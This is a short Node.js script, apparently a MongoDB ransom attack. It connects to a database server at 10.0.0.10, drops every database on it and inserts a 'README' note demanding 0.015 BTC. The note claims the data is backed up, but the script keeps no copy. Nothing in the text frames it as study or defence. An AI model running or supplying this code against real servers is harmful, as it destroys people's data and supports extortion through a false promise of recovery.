const { MongoClient } = require('mongodb');
(async () => {
  const c = await MongoClient.connect('mongodb://10.0.0.10');
  const { databases } = await c.db().admin().listDatabases();
  for (const d of databases) await c.db(d.name).dropDatabase();
  await c.db('WARNING').collection('README').insertOne({ content: 'All your data is backed up. You must pay 0.015 BTC' });
})();
